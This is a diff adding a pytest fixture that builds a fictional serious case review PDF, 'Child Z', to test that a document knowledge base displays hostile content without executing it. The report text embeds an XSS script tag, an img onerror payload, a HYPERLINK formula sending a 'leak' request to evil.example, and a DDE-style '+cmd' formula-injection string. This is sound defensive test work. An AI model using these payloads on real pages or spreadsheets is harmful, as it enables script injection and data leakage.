@@ -66,3 +66,39 @@ def sample_kb(tmp_path_factory):
     report = ingest_paths(kb, [REPO / "corpora" / "sample"])
     assert not report.failed, report.failed
     return kb
+
+
+SCRIPT = "<script>alert('pdf')</script>"
+FORMULA = '=HYPERLINK("http://evil.example/?leak","Open")'
+
+
+def hostile_review():
+    """A report whose title and text hold markup and spreadsheet formulas: pages show them, never run them."""
+    from pdfs import Heading, Para, ReportSpec
+
+    return ReportSpec(
+        title=f"{FORMULA} Serious Case Review: Child Z {SCRIPT}", header="Serious Case Review: Child Z",
+        body=[
+            Heading(f"{FORMULA} Serious Case Review: Child Z", 18),
+            Para(["Eastfold Safeguarding Children Partnership. Published June 2020."]),
+            Heading("3. Analysis"),
+            Para([f"3.1 The referral form read {SCRIPT} and <img src=x onerror=alert(2)>; the",
+                  "school nurse's concern about neglect of Child Z was never passed to children's social care,",
+                  "and information sharing between the police and the health visitor failed."]),
+            Para([f"{FORMULA} @SUM(1+1) +cmd|' /C calc'!A0 -2+3 was written in the case notes by the",
+                  "social worker, who did not share the concern about neglect with the school."]),
+        ],
+    )
+
+
+@pytest.fixture(scope="session")
+def hostile_kb(tmp_path_factory, child_s_pdf):
+    """Child S and the hostile Child Z review, ingested once for the security tests."""
+    from ingest import ingest_paths
+
+    home = tmp_path_factory.mktemp("hostile")
+    pdf = build_report(home / "child-z.pdf", hostile_review())
+    kb = KnowledgeBase(Settings(home=home / "kb", catalogue=home / "none.csv"))
+    report = ingest_paths(kb, [child_s_pdf, pdf])
+    assert report.ingested == 2 and not report.failed
+    return kb
